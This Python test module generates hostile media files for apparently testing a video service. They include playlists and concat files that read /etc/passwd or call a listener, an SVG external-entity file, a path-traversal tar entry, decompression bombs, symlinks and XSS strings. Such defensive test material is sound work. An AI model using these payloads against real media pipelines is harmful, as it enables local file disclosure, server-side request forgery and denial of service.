"""Files that mean harm, or are so broken that they do it without meaning to. All are made here.

`make` fills a folder; `LISTENER` in a text stands for the address of a listener on loopback, to which
nothing may ever connect.
"""

import io
import os
import random
import socket
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import hostile_kinds
import hostile_lies
from clips import ffmpeg, stamped

FUZZED = 24
"""How many of the files are real clips with random damage."""

TEXTS = {
    "letter.mp4": "this is a letter\n" * 100,
    "page.mp4": "<html><script>fetch('http://LISTENER/html')</script></html>",
    "list.mp4": "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    "address.m3u8": "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nhttp://LISTENER/m3u8\n#EXT-X-ENDLIST\n",
    "address.mkv": "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nhttp://LISTENER/mkv\n",
    "glued.avi": "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://LISTENER/x?|file:///etc/passwd\n#EXT-X-ENDLIST\n",
    "part.mp4": "#EXTM3U\n#EXTINF:10.0,\nsubfile,,start,0,end,64,,:/etc/passwd\n#EXT-X-ENDLIST\n",
    "inline.mp4": "#EXTM3U\n#EXTINF:1,\ndata:text/plain;base64,SGVsbG8=\n#EXT-X-ENDLIST\n",
    "key.mp4": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="http://LISTENER/key"\n#EXTINF:1,\na.ts\n#EXT-X-ENDLIST\n',
    "concat.mp4": "ffconcat version 1.0\nfile /etc/passwd\n",
    "concat.txt": "file 'http://LISTENER/concat'\nfile '/etc/passwd'\n",
    "dash.mpd": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet>'
                '<Representation id="1" bandwidth="1"><BaseURL>http://LISTENER/dash</BaseURL></Representation>'
                "</AdaptationSet></Period></MPD>",
    "dash.mp4": '<MPD type="static" mediaPresentationDuration="PT9S"><BaseURL>http://LISTENER/d</BaseURL></MPD>',
    "imf.xml": '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2013"></CompositionPlaylist>',
    "drawing.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://LISTENER/svg"/></svg>',
    "entity.svg": '<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
    "session.sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n",
    "rtsp.mp4": "[Reference]\nRef1=http://LISTENER/asf?MSWMExt=.asf\n",
    "list.pls": "[playlist]\nFile1=http://LISTENER/pls\nNumberOfEntries=1\n",
    "list.asx": '<asx version="3.0"><entry><ref href="http://LISTENER/asx"/></entry></asx>',
    "meta.mp4": ";FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\nEND=9\n",
    "words.srt": "1\n00:00:00,000 --> 00:00:09,000\nhello\n",
    "words.vtt": "WEBVTT\n\n00:00.000 --> 00:09.000\nhello\n",
    "words.ass": "[Script Info]\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,hello\n",
    "frames%03d.mp4": "not an image sequence",
    "graph.mp4": "movie=/etc/passwd",
    "script.avs": 'AviSource("/etc/passwd")\n',
    "lavfi.mp4": "testsrc2=s=64x64",
    "terminal.nfo": "\x1b[2J\x1b[31m" * 500,
}  # fmt: skip


def make(folder: Path, listener: str) -> list[Path]:
    """All of them, in `folder`."""
    for name, text in TEXTS.items():
        (folder / name).write_text(text.replace("LISTENER", listener))
    small = {**_raw(), **_pictures(folder), **hostile_kinds.mistakes(), **hostile_kinds.headers()}
    for name, data in {**small, **hostile_lies.make(folder)}.items():
        (folder / name).write_bytes(data)
    clip = stamped(folder / "clip.mp4", seconds=2).read_bytes()
    for name, data in _lying(clip).items():
        (folder / name).write_bytes(data)
    _swarms(folder)
    _no_files(folder)
    (folder / "clip.mp4").unlink()
    for number, (name, data) in enumerate(_fuzzed(folder)):
        (folder / f"fuzzed-{number:02d}{name}").write_bytes(data)
    return sorted(folder.iterdir())


def _raw() -> dict[str, bytes]:
    """Things that are no video at all."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(10 << 20))
    bundle = io.BytesIO()
    with tarfile.open(fileobj=bundle, mode="w") as tape:
        tape.addfile(tarfile.TarInfo("../../etc/passwd"))
    noise = random.Random(1).randbytes(200_000)
    return {
        "empty.mp4": b"",
        "one.mp4": b"\x00",
        "zeros.mp4": bytes(1 << 20),
        "noise.mp4": noise,
        "noise.ts": b"".join(
            b"\x47" + noise[start : start + 187] for start in range(0, len(noise) - 187, 187)
        ),
        "noise.h264": b"\x00\x00\x00\x01\x67" + noise,
        "noise.mp3": b"\xff\xfb\x90\x00" * 20 + noise,
        "archive.mp4": packed.getvalue(),
        "bundle.mkv": bundle.getvalue(),
        "program.mp4": Path("/bin/true").read_bytes(),
        "huge.y4m": b"YUV4MPEG2 W65535 H65535 F25:1 Ip A1:1 C420jpeg\nFRAME\n",
        "sound.wav": b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\x01\0\xff\xff\xff\xff\xff\xff\0\0\0\0\0\0\x10\0data\xff\xff\xff\xff",
        "tag.mp3": b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + bytes(1000),
        "list.avi": b"RIFF" + (b"\xff\xff\xff\x7fAVI LIST" * 2000),
        "nested.mkv": b"\x1a\x45\xdf\xa3\x80\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + b"\xec\x80" * 50_000,
        "boxes.mp4": b"".join(struct.pack(">I4s", 8, b"free") for _ in range(50_000)),
        "deep.mp4": _box(b"ftyp", b"isom\0\0\0\0isom") + _nested(b"moov", 2000),
    }  # fmt: skip


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I4s", len(payload) + 8, kind) + payload


def _nested(kind: bytes, depth: int) -> bytes:
    data = b""
    for _ in range(depth):
        data = _box(kind, data)
    return data


def _chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def _pictures(folder: Path) -> dict[str, bytes]:
    """Single pictures, of which some are small only until they are unpacked."""
    ffmpeg("-f", "lavfi", "-i", "testsrc=s=64x64:d=1", "-frames:v", "1", folder / "picture.png")
    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes(50_001 * 200), 9)
    bomb = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")
    bitmap = b"BM" + struct.pack("<IHHIIiiHHIIiiII", 60, 0, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0)
    return {"bomb.png": bomb, "bomb.mp4": bomb, "huge.bmp": bitmap, "huge.gif": b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(99)}  # fmt: skip


def _lying(clip: bytes) -> dict[str, bytes]:
    """An MP4 whose header says what is not so."""

    def patched(kind: bytes, offset: int, data: bytes, nth: int = 0) -> bytes:
        at = -1
        for _ in range(nth + 1):
            at = clip.index(kind, at + 1)
        at += 4 + offset
        return clip[:at] + data + clip[at + len(data) :]

    return {
        "cut.mp4": clip[: len(clip) // 2],
        "tail.mp4": clip[len(clip) // 2 :],
        "wide.mp4": patched(b"avc1", 24, b"\xff\xff\xff\xff"),
        "long.mp4": patched(b"mvhd", 16, b"\x7f\xff\xff\xff"),
        "many.mp4": patched(b"stts", 4, b"\x7f\xff\xff\xff\x7f\xff\xff\xff"),
        "sizes.mp4": patched(b"stsz", 8, b"\x7f\xff\xff\xff"),
        "where.mp4": patched(b"stco", 8, b"\xff\xff\xff\xff" * 4),
        "nowhere.mp4": patched(b"stsc", 4, b"\x7f\xff\xff\xff\0\0\0\0"),
        "scale.mp4": patched(b"mdhd", 8, b"\0\0\0\0"),
        "elsewhere.mp4": patched(b"url ", 0, b"\0\0\0\0"),
        "codec.mp4": patched(b"avc1", -4, b"xxxx"),
        "zero.mp4": patched(b"stsz", 12, bytes(64)),
    }


def _swarms(folder: Path) -> None:
    """Too much of something: streams, chapters, subtitles, tags."""
    clip = folder / "clip.mp4"
    for name, number in (("streams.mkv", 400), ("tracks.mp4", 100)):
        ffmpeg("-i", clip, *["-map", "0:a"] * number, "-c", "copy", "-t", "0.2", folder / name)
    marks = "".join(f"[CHAPTER]\nTIMEBASE=1/1000000\nSTART={n}\nEND={n + 1}\n" for n in range(30_000))
    (folder / "marks.txt").write_text(";FFMETADATA1\n" + marks)
    ffmpeg(
        "-i", clip, "-i", folder / "marks.txt", "-map_metadata", "1", "-c", "copy", folder / "chapters.mkv"
    )
    (folder / "marks.txt").unlink()
    (folder / "cue.srt").write_text("1\n00:00:00,000 --> 00:00:01,000\n<script>alert(1)</script>\n")
    subtitles = ["-map", "1"] * 150
    ffmpeg(
        "-i",
        clip,
        "-i",
        folder / "cue.srt",
        "-map",
        "0:v",
        *subtitles,
        "-c",
        "copy",
        folder / "subtitles.mkv",
    )
    (folder / "cue.srt").unlink()
    ffmpeg(
        "-i",
        clip,
        "-c",
        "copy",
        "-metadata",
        "title=" + "<img src=x onerror=alert(1)>" * 500,
        folder / "tags.mkv",
    )
    ffmpeg("-i", clip, "-c", "copy", "-r", "1000000", folder / "rate.mkv")


def _no_files(folder: Path) -> None:
    """What only looks like a file. None of it may be opened, or followed."""
    (folder / "link.mp4").symlink_to("/etc/passwd")
    (folder / "round.mp4").symlink_to("round.mp4")
    (folder / "outside").symlink_to("/etc")
    os.mkfifo(folder / "pipe.mp4")
    with socket.socket(socket.AF_UNIX) as made:
        place = Path("/tmp") / f"vlogd-{os.getpid()}.sock"  # noqa: S108 - a socket's path is short or refused
        made.bind(str(place))
        place.rename(folder / "socket.mp4")
    (folder / "folder.mp4").mkdir()
    with (folder / "sparse.mp4").open("wb") as file:
        file.truncate(1 << 30)  # larger ones that are mostly holes are left where they are


def _fuzzed(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Real clips of several kinds with bytes changed, cut out, repeated or moved."""
    chance = random.Random(20)
    damages: list[Callable[[bytearray], object]] = [
        lambda data: [data.__setitem__(chance.randrange(len(data)), chance.randrange(256)) for _ in range(40)],
        lambda data: [data.__setitem__(chance.randrange(min(4000, len(data))), chance.randrange(256)) for _ in range(6)],
        lambda data: data.__delitem__(slice(chance.randrange(len(data)), None, 997)),
        lambda data: data.extend(data[chance.randrange(len(data)) :]),
        lambda data: data.__setitem__(slice(len(data) // 3, len(data) // 2), b"\xff" * 100),
    ]  # fmt: skip
    kinds = (".mp4", ".mkv", ".ts", ".avi", ".flv", ".webm")
    whole = {}
    for kind in kinds:
        codec = ("-c:v", "libvpx", "-c:a", "libvorbis") if kind == ".webm" else ()
        path = stamped(folder / f"whole{kind}", *codec, seconds=2)
        whole[kind] = path.read_bytes()
        path.unlink()
    for number in range(FUZZED):
        kind = kinds[number % len(kinds)]
        data = bytearray(whole[kind])
        damages[number % len(damages)](data)
        yield kind, bytes(data)
